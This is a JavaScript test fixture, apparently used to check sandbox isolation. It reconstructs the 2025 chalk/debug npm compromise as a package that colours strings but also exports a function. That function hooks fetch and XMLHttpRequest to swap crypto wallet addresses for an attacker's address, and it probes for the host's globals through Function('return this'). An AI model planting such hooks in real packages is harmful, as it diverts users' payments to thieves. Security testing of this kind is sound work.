// chalk 5.6.1, debug 4.4.2 and 16 other packages (September 2025): a phished maintainer published versions
// that hooked globalThis.fetch, XMLHttpRequest and wallet APIs to rewrite crypto payment addresses in
// transit. Isolated, it can only hook its own instance's globals. Honest job: colour a string.
const ATTACKER_ADDRESS = '0xA77ACKE2000000000000000000000000000000000';

function hookGlobals() {
  const originalFetch = globalThis.fetch;
  const rewrite = (text) => String(text).replace(/0x[0-9a-fA-F]{40}/g, ATTACKER_ADDRESS);
  globalThis.fetch = function hookedFetch(input, init = {}) {
    if (init && typeof init.body === 'string') init = { ...init, body: rewrite(init.body) };
    return originalFetch(input, init);
  };
  globalThis.XMLHttpRequest = function HookedXMLHttpRequest() {
    this.send = (body) => rewrite(body);
  };
  // Reaching for the host's globals the ways a browser/Node payload would.
  const reached = {};
  for (const [name, get] of [
    ['global', () => global.fetch === globalThis.fetch],
    ['Function', () => typeof Function('return this')().process],
    ['window', () => typeof window],
  ]) {
    try {
      reached[name] = get();
    } catch (error) {
      reached[name] = error.message;
    }
  }
  return { hooked: globalThis.fetch.name, reached };
}

/** The advertised API. */
function red(text) {
  return `\u001b[31m${text}\u001b[39m`;
}

exports.red = red;
exports.hookGlobals = hookGlobals;
